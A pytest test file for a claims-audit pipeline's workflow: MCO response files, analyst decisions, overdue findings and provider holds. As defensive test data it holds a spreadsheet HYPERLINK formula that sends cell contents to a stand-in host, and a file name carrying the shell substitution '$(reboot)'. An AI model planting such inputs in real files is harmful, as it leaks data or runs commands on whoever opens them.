"""From finding to reprocessed claim (docs/workflow.md): notices and due dates, MCO responses,
the analyst's decision, overdue findings, holds on providers. Every case runs the real audit
on a real DuckDB file over several nights; analysts' actions go through the command line.
"""

from __future__ import annotations

import datetime as dt
import shutil
import zipfile
from pathlib import Path

import duckdb
import openpyxl
import polars as pl
import pytest

from pipelines import config
from pipelines.audit.run import run_audit
from pipelines.cli import main as cli
from pipelines.db import connect
from pipelines.log.analyst import STATE_FILTERS
from pipelines.log.states import WORKFLOW_STATES
from pipelines.reports.providers import provider_summary
from tests.world import PEER, World, luhn_npi, write_rows

ADULT = "10000000002"  # no written consent: every line of this member breaks PPS009
NIGHT_1, NIGHT_2, NIGHT_3 = dt.date(2025, 6, 30), dt.date(2025, 7, 1), dt.date(2025, 10, 1)
DUE = NIGHT_1 + dt.timedelta(days=90)  # 2025-09-28: the default allowance
RULE = "PPS009"
FORMULA = '=HYPERLINK("http://x.example/?"&A1,"see")'


def _world() -> World:
    world = World()
    world.member(ADULT, dob="1990-01-01")
    world.ref["consents"].pop()
    world.member("10000000003", payer="UHC", dob="1990-01-01")
    world.ref["consents"].pop()
    return world


def _line(world: World, payer: str, claim_id: str, day: int, **overrides: str) -> None:
    member = ADULT if payer == "AETNA" else "10000000003"
    world.line(payer, claim_id, member, claim_line_start_date=f"2023-05-{day:02d}", **overrides)


def _deliver(world: World, input_dir: Path, name: str) -> None:
    world.write(input_dir, claim_file=name)
    world.claims = {}


def _finding(db: Path, claim_id: str) -> dict[str, object]:
    with duckdb.connect(str(db), read_only=True) as con:
        rows = con.execute(
            "select * from audit.finding_states where claim_id = ? and rule_id = ?",
            [claim_id, RULE],
        ).fetchall()
        columns = [c[0] for c in con.description or []]
    assert len(rows) == 1, claim_id
    return dict(zip(columns, rows[0], strict=True))


def _events(db: Path, claim_id: str) -> list[tuple[object, ...]]:
    """The workflow's history rows of a claim's finding: date, event, status, note, by."""
    with duckdb.connect(str(db), read_only=True) as con:
        return con.execute(
            "select changed_on, "
            "coalesce(event, coalesce(from_status, 'new') || ' -> ' || to_status), to_status, "
            "note, changed_by from audit.finding_history where claim_id = ? and rule_id = ? "
            "order by changed_on, run_id nulls last, event nulls first",
            [claim_id, RULE],
        ).fetchall()


def _query(db: Path, sql: str) -> list[tuple[object, ...]]:
    with duckdb.connect(str(db), read_only=True) as con:
        return con.execute(sql).fetchall()


def _ids(package: Path) -> dict[str, str]:
    rows = pl.read_csv(package, infer_schema=False).filter(pl.col("rule_id") == RULE)
    return dict(zip(rows["claim_id"], rows["finding_id"], strict=True))


def test_every_state_filter_of_the_command_line_is_defined() -> None:
    assert set(STATE_FILTERS) == set(WORKFLOW_STATES)


def test_three_nights_from_notice_to_reprocessed_or_overdue(tmp_path: Path) -> None:
    world, input_dir, db, out = (
        _world(),
        tmp_path / "input",
        tmp_path / "a.duckdb",
        tmp_path / "out",
    )
    for day, claim_id in enumerate(["A1", "A2", "A3", "A4", "A5", "A6"], start=2):
        _line(world, "AETNA", claim_id, day)
    _line(world, "UHC", "U1", 2)
    _deliver(world, input_dir, "night1.csv")

    # night 1: every finding goes out in its package, notified tonight, due in 90 days
    run_audit(input_dir, db, out, as_of=NIGHT_1)
    ids = _ids(out / "mco" / "AETNA" / "findings.csv")
    uhc_id = _ids(out / "mco" / "UHC" / "findings.csv")["U1"]
    state = pl.read_csv(out / "findings.csv", infer_schema=False).filter(pl.col("rule_id") == RULE)
    assert dict(zip(state["claim_id"], state["finding_id"], strict=True)) == {**ids, "U1": uhc_id}
    for claim_id in ids:
        finding = _finding(db, claim_id)
        assert (finding["notified_date"], finding["due_date"]) == (NIGHT_1, DUE)
        assert finding["finding_id"] == ids[claim_id]
    assert _events(db, "A1") == [
        (NIGHT_1, "new -> open", "open", "first found", "claims-audit run"),
        (NIGHT_1, "notified", "open", f"in the MCO package; due {DUE}", "claims-audit run"),
    ]

    # night 2: AETNA's answers come back in its folder, hostile rows among them
    write_rows(
        input_dir / "responses" / "AETNA" / "answers 2025-07-01.csv",
        ["finding_id", "response", "comment", "planned_date"],
        [
            {"finding_id": ids["A1"], "response": "agree", "comment": "", "planned_date": ""},
            {"finding_id": ids["A2"], "response": "Dispute", "comment": FORMULA},
            {"finding_id": ids["A3"], "response": "corrected", "planned_date": "2025-08-15"},
            {"finding_id": ids["A4"], "response": "corrected", "planned_date": "2025-07-15"},
            {"finding_id": uhc_id, "response": "agree"},
            {"finding_id": "F-0000000000000000", "response": "agree"},
            {"finding_id": ids["A5"], "response": "maybe"},
            {"finding_id": ids["A6"], "response": "corrected", "planned_date": "15/08/2025"},
            {"finding_id": ids["A1"].lower(), "response": "dispute"},
        ],
    )
    summary = run_audit(input_dir, db, out, as_of=NIGHT_2)
    assert [(o.status, o.taken, o.unchanged) for o in summary.responses] == [("taken", 4, 0)]
    assert summary.responses[0].rejected == [
        (6, "not a finding of AETNA: another MCO's finding"),
        (7, "no finding has this ID"),
        (8, "the response is not one of agree, dispute, corrected"),
        (9, "planned_date is not a date (YYYY-MM-DD)"),
        (10, "the finding is answered on an earlier row of this file"),
    ]
    assert _query(
        db,
        "select row_number, outcome, response, comment from audit.response_rows "
        "where row_number in (2, 3, 6) order by row_number",
    ) == [
        (2, "taken", "agree", None),
        (3, "taken", "Dispute", FORMULA),
        (6, "rejected", "agree", None),
    ]
    a2 = _finding(db, "A2")
    assert (a2["response"], a2["review"], a2["response_date"]) == ("dispute", "disputed", NIGHT_2)
    assert _finding(db, "A3")["planned_date"] == dt.date(2025, 8, 15)
    assert _finding(db, "A5")["response"] is None
    by = "AETNA response file"
    assert _events(db, "A2")[-1] == (
        NIGHT_2,
        "disputed",
        "open",
        "AETNA answered dispute (response file 1, row 3)",
        by,
    )
    # the comment's formula is text wherever it is written out, and in the package it came from
    for written in (out / "findings.csv", out / "mco" / "AETNA" / "findings.csv"):
        rows = pl.read_csv(written, infer_schema=False).filter(pl.col("claim_id") == "A2")
        comment = "response_comment" if written.parent == out else "comment"
        assert rows[comment][0] == "'" + FORMULA

    # the same file taken again, on a run or from the command line, changes nothing
    before = _query(db, "select * from audit.finding_history order by all")
    findings_before = _query(db, "select * from audit.findings order by all")
    again = run_audit(input_dir, db, out, as_of=NIGHT_2)
    assert again.responses[0].status == "already_taken"
    assert cli.main(
        [
            "respond", "--db", str(db), "--payer", "AETNA", "--analyst", "J. Rivera",
            "--as-of", "2025-07-02",
            str(input_dir / "responses" / "AETNA" / "answers 2025-07-01.csv"),
        ]
    ) == 0  # fmt: skip
    assert _query(db, "select * from audit.finding_history order by all") == before
    assert _query(db, "select * from audit.findings order by all") == findings_before
    assert _query(db, "select count(*) from audit.response_files") == [(1,)]

    # the analyst upholds the dispute: the finding stays open, its due date unchanged
    assert cli.main(
        [
            "decide", "--db", str(db), ids["A2"], "--uphold", "--reason", "consent is not on file",
            "--analyst", "J. Rivera", "--as-of", "2025-07-02",
        ]
    ) == 0  # fmt: skip
    a2 = _finding(db, "A2")
    assert (a2["status"], a2["review"], a2["due_date"]) == ("open", "upheld", DUE)
    assert _events(db, "A2")[-1] == (
        dt.date(2025, 7, 2),
        "upheld",
        "open",
        "dispute not accepted by J. Rivera: consent is not on file",
        "J. Rivera",
    )

    # night 3: the claims of A1 and A3 come back voided, A6 replaced with the problem kept;
    # the clock has passed the due date and A4's planned date
    _line(world, "AETNA", "A1-VOID", 2, claim_frequency_code="8", original_claim_id="A1")
    _line(world, "AETNA", "A3-VOID", 4, claim_frequency_code="8", original_claim_id="A3")
    _line(world, "AETNA", "A6-R", 7, claim_frequency_code="7", original_claim_id="A6")
    _deliver(world, input_dir, "night3.csv")
    run_audit(input_dir, db, out, as_of=NIGHT_3)

    for claim_id in ("A1", "A3"):
        finding = _finding(db, claim_id)
        assert (finding["status"], finding["resolved_date"]) == ("resolved_reprocessed", NIGHT_3)
        assert not finding["overdue"]
    a6, a6r = _finding(db, "A6"), _finding(db, "A6-R")
    assert a6["status"] == "superseded"
    assert a6r["supersedes_finding_id"] == ids["A6"] and a6r["finding_id"] != ids["A6"]
    assert (a6r["notified_date"], a6r["due_date"]) == (NIGHT_1, DUE), "no clock restarts"
    overdue = {c: _finding(db, c) for c in ("A2", "A4", "A5", "A6-R")}
    for claim_id, finding in overdue.items():
        assert (finding["status"], finding["overdue"]) == ("open", True), claim_id
    assert overdue["A4"]["overdue_since"] == dt.date(2025, 7, 16)  # its planned date passed
    assert overdue["A5"]["overdue_since"] == DUE + dt.timedelta(days=1)
    assert _events(db, "A4")[-1][1:] == (
        "overdue",
        "open",
        "planned date 2025-07-15 passed without the corrected claim",
        "claims-audit run",
    )
    assert _events(db, "A5")[-1][1:] == (
        "overdue",
        "open",
        f"due {DUE} and not reprocessed",
        "claims-audit run",
    )
    assert _query(
        db,
        "select count(*) from audit.finding_history where changed_by is null or changed_on is null",
    ) == [(0,)]
    state = pl.read_csv(out / "findings.csv", infer_schema=False).filter(pl.col("rule_id") == RULE)
    days = dict(zip(state["claim_id"], state["days_overdue"], strict=True))
    assert (days["A4"], days["A5"], days["A1"]) == ("78", "3", None)

    # the reprocessing log counts what is due and overdue, by days past the deadline
    log = pl.read_csv(out / "reprocessing_log.csv", infer_schema=False).filter(
        (pl.col("payer") == "AETNA") & (pl.col("rule_id") == RULE)
    )
    counts = log.select(
        "lines_open",
        "lines_due",
        "lines_overdue",
        "amount_overdue",
        "overdue_0_30_days",
        "overdue_61_90_days",
        "lines_disputed",
    ).row(0)
    assert counts == ("4", "0", "4", "209.60", "3", "1", "0")
    report = (out / f"analyst_report_{NIGHT_3}.html").read_text(encoding="utf-8")
    assert "Due, overdue, disputed and held" in report
    assert "Providers behind the findings" in report and PEER in report

    # a row answering a finding closed since is rejected; the near miss, an open one, taken
    write_rows(
        input_dir / "responses" / "AETNA" / "late.csv",
        ["finding_id", "response"],
        [
            {"finding_id": ids["A1"], "response": "agree"},
            {"finding_id": ids["A5"], "response": "agree"},
        ],
    )
    late = run_audit(input_dir, db, out, as_of=NIGHT_3 + dt.timedelta(days=1))
    assert (late.responses[1].taken, late.responses[1].rejected) == (
        1,
        [
            (
                2,
                "the finding is closed (resolved_reprocessed): "
                "only an open finding takes a response",
            )
        ],
    )


HELD = luhn_npi(222333444)


def _files_of(folder: Path) -> str:
    """Every byte of text in every file under `folder`, workbooks unzipped."""
    texts = []
    for path in sorted(p for p in folder.rglob("*") if p.is_file()):
        if path.suffix == ".xlsx":
            with zipfile.ZipFile(path) as book:
                texts += [book.read(name).decode("utf-8") for name in book.namelist()]
        else:
            texts.append(path.read_text(encoding="utf-8"))
    return "\n".join(texts)


def test_a_held_providers_findings_stay_out_of_every_package_until_released(
    tmp_path: Path,
) -> None:
    world, input_dir, db, out = (
        _world(),
        tmp_path / "input",
        tmp_path / "a.duckdb",
        tmp_path / "out",
    )
    world.provider(HELD)
    _line(world, "AETNA", "OPEN-1", 2)
    _deliver(world, input_dir, "night1.csv")
    run_audit(input_dir, db, out, as_of=NIGHT_1)

    hold = ["hold", "--db", str(db), "--provider", HELD, "--analyst", "J. Rivera"]
    assert cli.main([*hold, "--reason", "MFCU referral pending", "--as-of", "2025-06-30"]) == 0
    assert cli.main([*hold, "--reason", "again"]) == 2, "a provider is held once"
    _line(world, "AETNA", "HELD-1", 3, rendering_npi=HELD)
    _line(world, "AETNA", "HELD-2", 4, billing_npi=HELD, rendering_npi="")
    _deliver(world, input_dir, "night2.csv")
    run_audit(input_dir, db, out, as_of=NIGHT_2)

    held = pl.read_csv(out / "findings.csv", infer_schema=False).filter(
        pl.col("claim_id").str.starts_with("HELD")
    )
    assert held.height >= 2 and set(held["held"]) == {"true"}
    assert set(held["notified_date"].fill_null("")) == {""}
    package_text = _files_of(out / "mco")
    for value in [HELD, "HELD-1", "HELD-2", *held["finding_id"]]:
        assert value not in package_text
    assert "OPEN-1" in package_text, "the near miss: the provider not held goes out"
    # the state counts the held findings apart; the MCO's log rows do not count them at all
    state_log = pl.read_csv(out / "reprocessing_log.csv", infer_schema=False)
    aetna = state_log.filter((pl.col("payer") == "AETNA") & (pl.col("rule_id") == RULE))
    assert aetna.select("lines_open", "lines_due", "lines_held").row(0) == ("3", "1", "2")
    own_log = pl.read_csv(out / "mco" / "AETNA" / "reprocessing_log.csv", infer_schema=False)
    own = own_log.filter(pl.col("rule_id") == RULE)
    assert own.select("lines_open", "lines_due", "lines_held").row(0) == ("1", "1", "0")
    providers = pl.read_csv(out / "provider_summary.csv", infer_schema=False)
    held_provider = providers.filter(pl.col("npi") == HELD)
    assert held_provider.select("role", "held").sort("role").rows() == [
        ("billing", "true"),
        ("rendering", "true"),
    ]
    assert _finding(db, "OPEN-1")["notified_date"] == NIGHT_1

    release = ["release", "--db", str(db), "--provider", HELD, "--analyst", "A. Chen"]
    assert cli.main([*release, "--as-of", "2025-07-05"]) == 0
    assert cli.main(release) == 2, "nothing left to release"
    released_on = dt.date(2025, 7, 6)
    run_audit(input_dir, db, out, as_of=released_on)  # nothing new delivered: packages only
    for claim_id in ("HELD-1", "HELD-2"):
        finding = _finding(db, claim_id)
        assert (finding["held"], finding["notified_date"]) == (False, released_on)
        assert finding["due_date"] == released_on + dt.timedelta(days=90)
    package = pl.read_csv(out / "mco" / "AETNA" / "findings.csv", infer_schema=False)
    assert {"HELD-1", "HELD-2"} <= set(package["claim_id"])
    assert set(held["finding_id"]) <= set(package["finding_id"]), "the same IDs"
    assert _query(
        db, "select npi, reason, held_by, held_on, released_by, released_on from audit.holds"
    ) == [(HELD, "MFCU referral pending", "J. Rivera", NIGHT_1, "A. Chen", dt.date(2025, 7, 5))]
    # found while held: no notice until the release, which is a history row with its analyst
    due = released_on + dt.timedelta(days=90)
    assert _events(db, "HELD-1") == [
        (NIGHT_2, "new -> open", "open", "first found", "claims-audit run"),
        (dt.date(2025, 7, 5), "released", "open", "hold 1 released", "A. Chen"),
        (released_on, "notified", "open", f"in the MCO package; due {due}", "claims-audit run"),
    ]


NOTIFIED = "NOTIFIED-1"  # the claim of the `one_finding` night


@pytest.fixture(scope="module")
def one_finding(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A folder (input, a.duckdb, out) after one night with one open finding, notified
    (NOTIFIED-1), audited once for the tests below; each changes a copy of it."""
    root = tmp_path_factory.mktemp("one_finding")
    world = _world()
    _line(world, "AETNA", NOTIFIED, 2)
    _deliver(world, root / "input", "night1.csv")
    run_audit(root / "input", root / "a.duckdb", root / "out", as_of=NIGHT_1)
    return root


def _copy(night: Path, tmp_path: Path) -> tuple[Path, Path, Path]:
    """The test's own copy of a shared night: its input folder, database and outputs."""
    shutil.copytree(night, tmp_path, dirs_exist_ok=True)
    return tmp_path / "input", tmp_path / "a.duckdb", tmp_path / "out"


def test_holding_a_notified_provider_takes_its_findings_out_of_the_packages(
    one_finding: Path, tmp_path: Path
) -> None:
    input_dir, db, out = _copy(one_finding, tmp_path)
    hold = ["hold", "--db", str(db), "--provider", PEER, "--analyst", "J. Rivera"]
    assert cli.main([*hold, "--reason", "referral", "--as-of", "2025-07-01"]) == 0
    assert _events(db, NOTIFIED)[-1] == (
        NIGHT_2,
        "held",
        "open",
        "hold 1: referral",
        "J. Rivera",
    )
    run_audit(input_dir, db, out, as_of=NIGHT_2)
    assert NOTIFIED not in _files_of(out / "mco")
    finding = _finding(db, NOTIFIED)
    assert (finding["held"], finding["notified_date"], finding["due_date"]) == (True, NIGHT_1, DUE)


@pytest.mark.parametrize(
    ("args", "message"),
    [
        (["decide", "F-0000000000000000", "--uphold"], "no finding F-0000000000000000"),
        (["decide", "not-an-id", "--waive"], "is not a finding ID"),
        (["hold", "--provider", "12345"], "10 digits"),
        (["release", "--provider", PEER], "is not held"),
    ],
)
def test_analyst_actions_that_cannot_be_taken_exit_2_and_say_why(
    one_finding: Path,
    tmp_path: Path,
    capsys: pytest.CaptureFixture[str],
    args: list[str],
    message: str,
) -> None:
    db = tmp_path / "a.duckdb"
    shutil.copy(one_finding / "a.duckdb", db)
    before = _query(db, "select * from audit.finding_history order by all")
    extra = ["--reason", "r"] if args[0] in ("decide", "hold") else []
    assert cli.main([args[0], "--db", str(db), *args[1:], *extra, "--analyst", "J. Rivera"]) == 2
    assert message in capsys.readouterr().err
    assert _query(db, "select * from audit.finding_history order by all") == before


def test_a_response_file_the_command_line_cannot_take_exits_2_and_records_nothing(
    one_finding: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    db = tmp_path / "a.duckdb"
    shutil.copy(one_finding / "a.duckdb", db)
    no_columns = tmp_path / "no_columns.csv"
    write_rows(no_columns, ["claim_id", "answer"], [{"claim_id": NOTIFIED, "answer": "agree"}])
    respond = ["respond", "--db", str(db), "--analyst", "J. Rivera"]
    assert cli.main([*respond, "--payer", "NOT/AN-MCO", str(no_columns)]) == 2
    assert "not a configured MCO" in capsys.readouterr().err
    assert cli.main([*respond, "--payer", "HUMANA", str(no_columns)]) == 2
    assert cli.main([*respond, "--payer", "AETNA", str(no_columns)]) == 2
    assert "no finding_id or response column" in capsys.readouterr().err
    assert _query(db, "select count(*) from audit.response_rows") == [(0,)]
    assert _query(db, "select payer, status from audit.response_files") == [("AETNA", "rejected")]


def test_response_folders_that_name_no_mco_and_odd_file_names_are_rejected(
    one_finding: Path, tmp_path: Path
) -> None:
    input_dir, db, out = _copy(one_finding, tmp_path)
    answer = {"finding_id": _finding(db, NOTIFIED)["finding_id"], "response": "agree"}
    columns = ["finding_id", "response"]
    write_rows(input_dir / "responses" / "HUMANA" / "a.csv", columns, [answer])
    write_rows(input_dir / "responses" / "AETNA" / "$(reboot).csv", columns, [answer])
    write_rows(input_dir / "responses" / "AETNA" / "deeper" / "a.csv", columns, [answer])
    write_rows(input_dir / "responses" / "AETNA" / ".hidden.csv", columns, [answer])
    summary = run_audit(input_dir, db, out, as_of=NIGHT_2)
    assert sorted((o.status, o.reason) for o in summary.responses) == [
        ("rejected", "response files belong directly in responses/<PAYER>/"),
        ("rejected", "the file name is not letters, digits, '.', '_', '-' and spaces"),
        (
            "rejected",
            "the payer is not a configured MCO (a payer code, 1 to 40 of A-Z, 0-9, _ "
            "and -, listed in mco_implementation.csv)",
        ),
    ]
    assert _finding(db, NOTIFIED)["response"] is None
    assert _query(db, "select distinct payer, source_file from audit.response_files") == [
        (None, "responses/(rejected file)")
    ]
    # the near miss: the same answer in a well-named file of the MCO's folder is taken
    write_rows(input_dir / "responses" / "AETNA" / "answers-1.csv", columns, [answer])
    run_audit(input_dir, db, out, as_of=NIGHT_2)
    assert _finding(db, NOTIFIED)["response"] == "agree"


def _settings(tmp_path: Path, monkeypatch: pytest.MonkeyPatch, workflow: str) -> None:
    """The engine's settings with this [workflow] table instead of the shipped one."""
    shipped = config.SETTINGS_FILE.read_text(encoding="utf-8")
    edited = tmp_path / "settings.toml"
    edited.write_text(shipped[: shipped.index("[workflow]")] + workflow, encoding="utf-8")
    monkeypatch.setattr(config, "SETTINGS_FILE", edited)


def test_lookback_and_an_mcos_own_allowance(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    _settings(
        tmp_path,
        monkeypatch,
        "[workflow]\nreprocessing_days = 90\nlookback_years = 2\n"
        "[workflow.reprocessing_days_by_mco]\nUHC = 30\n",
    )
    world, input_dir, db, out = (
        _world(),
        tmp_path / "input",
        tmp_path / "a.duckdb",
        tmp_path / "out",
    )
    # the lookback starts 2023-06-30 on the first night
    world.line("AETNA", "OLD", ADULT, claim_line_start_date="2023-06-29")
    world.line("AETNA", "INSIDE", ADULT, claim_line_start_date="2023-06-30")
    world.line("UHC", "U-INSIDE", "10000000003", claim_line_start_date="2023-07-01")
    _deliver(world, input_dir, "night1.csv")
    run_audit(input_dir, db, out, as_of=NIGHT_1)

    old, inside, uhc = (_finding(db, c) for c in ("OLD", "INSIDE", "U-INSIDE"))
    assert (old["outside_lookback"], old["notified_date"], old["due_date"]) == (True, None, None)
    assert (inside["outside_lookback"], inside["due_date"]) == (False, DUE)
    assert uhc["due_date"] == NIGHT_1 + dt.timedelta(days=30)
    assert _events(db, "OLD")[-1][1:] == (
        "outside_lookback",
        "open",
        "date of service before 2023-06-30",
        "claims-audit run",
    )
    assert "OLD" not in _files_of(out / "mco")
    state = pl.read_csv(out / "findings.csv", infer_schema=False).filter(
        pl.col("claim_id") == "OLD"
    )
    assert set(state["outside_lookback"]) == {"true"} and set(state["status"]) == {"open"}
    # a day later the clock has moved the lookback past INSIDE: it leaves the package, keeping
    # the notice it had
    run_audit(input_dir, db, out, as_of=NIGHT_2)
    inside = _finding(db, "INSIDE")
    assert (inside["outside_lookback"], inside["notified_date"]) == (True, NIGHT_1)
    assert "INSIDE" not in _files_of(out / "mco" / "AETNA")


def test_the_provider_view_ranks_providers_and_lists_one_providers_findings(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    world, input_dir, db = _world(), tmp_path / "input", tmp_path / "a.duckdb"
    other = luhn_npi(333444555)
    world.provider(other)
    world.member("10000000004", dob="1990-01-01")  # consent on file: no finding
    for day in (2, 3, 4):
        _line(world, "AETNA", f"P{day}", day)
    _line(world, "UHC", "U1", 2)
    world.line("AETNA", "CLEAN", "10000000004", rendering_npi=other)
    world.line("AETNA", "OTHER", ADULT, rendering_npi=other, claim_line_start_date="2023-05-09")
    _deliver(world, input_dir, "night1.csv")
    run_audit(input_dir, db, tmp_path / "out", as_of=NIGHT_1)

    con = connect(db)
    try:
        summary = provider_summary(con)
    finally:
        con.close()
    rendering = summary.filter(pl.col("role") == "rendering")
    assert rendering["npi"].to_list() == [PEER, other], "ranked by open findings"
    first = rendering.row(0, named=True)
    assert (first["mcos"], first["in_scope_lines"], first["in_scope_lines_with_findings"]) == (
        "AETNA UHC",
        4,
        4,
    )
    assert RULE in str(first["rules"]).split()
    assert (first["first_found_date"], first["last_found_date"]) == (NIGHT_1, NIGHT_1)
    second = rendering.row(1, named=True)
    assert (second["in_scope_lines"], second["share_of_lines_with_findings"]) == (2, 0.5)

    assert cli.main(["findings", "--db", str(db), "--provider", other]) == 0
    printed = capsys.readouterr().out
    assert "OTHER" in printed and "P2" not in printed and "CLEAN" not in printed
    assert ADULT not in printed


@pytest.fixture(scope="module")
def two_findings(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A folder (input, a.duckdb, out) after one night with two open findings, W1 and W2,
    audited once for the two tests below; each changes a copy of it."""
    root = tmp_path_factory.mktemp("two_findings")
    world = _world()
    for day, claim_id in ((2, "W1"), (3, "W2")):
        _line(world, "AETNA", claim_id, day)
    _deliver(world, root / "input", "night1.csv")
    run_audit(root / "input", root / "a.duckdb", root / "out", as_of=NIGHT_1)
    return root


def test_commands_name_a_finding_by_its_id(
    two_findings: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    db = tmp_path / "a.duckdb"
    shutil.copy(two_findings / "a.duckdb", db)
    w1, w2 = (str(_finding(db, c)["finding_id"]) for c in ("W1", "W2"))

    assert cli.main(["explain", "--db", str(db), w1.lower()]) == 0
    explained = capsys.readouterr().out
    assert "AETNA claim W1" in explained and f"{RULE} {w1}: notified" in explained

    analyst = ["--reason", "consent found", "--analyst", "J. Rivera", "--as-of", "2025-07-01"]
    # a finding nobody disputed awaits no decision; the near miss, once disputed, does
    assert cli.main(["decide", "--db", str(db), w2, "--waive", *analyst]) == 2
    assert "is not disputed" in capsys.readouterr().err
    answers = tmp_path / "answers.csv"
    write_rows(answers, ["finding_id", "response"], [{"finding_id": w2, "response": "dispute"}])
    respond = ["respond", "--db", str(db), "--payer", "aetna", "--analyst", "J. Rivera"]
    respond += ["--as-of", "2025-07-01"]
    assert cli.main([*respond, str(answers)]) == 0
    assert "1 responses taken, 0 unchanged, 0 rows rejected" in capsys.readouterr().out
    assert cli.main(["findings", "--db", str(db), "--status", "disputed"]) == 0
    listed = capsys.readouterr().out
    assert w2 in listed and w1 not in listed and "1 findings" in listed
    assert cli.main(["decide", "--db", str(db), w2, "--waive", *analyst]) == 0
    assert _finding(db, "W2")["status"] == "waived"
    assert _events(db, "W2")[-1] == (
        NIGHT_2,
        "waived",
        "waived",
        "dispute accepted, waived by J. Rivera: consent found",
        "J. Rivera",
    )

    assert cli.main(["waive", "--db", str(db), w1, *analyst]) == 0
    assert f"{w1}: open -> waived" in capsys.readouterr().out
    finding = _finding(db, "W1")
    assert (finding["status"], finding["waived_by"]) == ("waived", "J. Rivera")
    assert cli.main(["waive", "--db", str(db), "AETNA", "W1", *analyst]) == 2, "ID or full key"


def test_an_mco_answers_in_its_own_workbook_sent_back_as_it_is(
    two_findings: Path, tmp_path: Path
) -> None:
    input_dir, db, out = _copy(two_findings, tmp_path)
    book = openpyxl.load_workbook(out / "mco" / "AETNA" / "AETNA_claims_audit.xlsx")
    sheet = book["Findings 22321"]
    header = [cell.value for cell in sheet[3]]
    assert {"finding_id", "response", "comment", "planned_date"} <= set(header)
    column = {name: index + 1 for index, name in enumerate(header)}
    choices = [v for v in sheet.data_validations.dataValidation if v.type == "list"]
    assert len(choices) == 1 and choices[0].formula1 == '"agree,dispute,corrected"'
    assert str(choices[0].sqref).startswith(
        f"{openpyxl.utils.get_column_letter(column['response'])}4"
    )
    rows = {sheet.cell(r, column["claim_id"]).value: r for r in range(4, sheet.max_row + 1)}
    w1 = rows["W1"]
    sheet.cell(w1, column["response"]).value = "corrected"
    sheet.cell(w1, column["comment"]).value = "=1+1"  # typed as a formula: kept as its text
    sheet.cell(w1, column["planned_date"]).value = dt.datetime(2025, 8, 1)
    (input_dir / "responses" / "AETNA").mkdir(parents=True)
    book.save(input_dir / "responses" / "AETNA" / "AETNA_claims_audit.xlsx")

    summary = run_audit(input_dir, db, out, as_of=NIGHT_2)
    assert [(o.status, o.taken, o.rejected) for o in summary.responses] == [("taken", 1, [])]
    w1_finding = _finding(db, "W1")
    assert (w1_finding["response"], w1_finding["planned_date"]) == (
        "corrected",
        dt.date(2025, 8, 1),
    )
    assert w1_finding["response_comment"] == "=1+1"
    assert _finding(db, "W2")["response"] is None
    again = openpyxl.load_workbook(out / "mco" / "AETNA" / "AETNA_claims_audit.xlsx")
    answered = {
        row[column["claim_id"] - 1]: row
        for row in again["Findings 22321"].iter_rows(values_only=True)
    }
    assert answered["W1"][column["comment"] - 1] == "'=1+1", "written back as text"
    assert answered["W1"][column["response"] - 1] == "corrected"
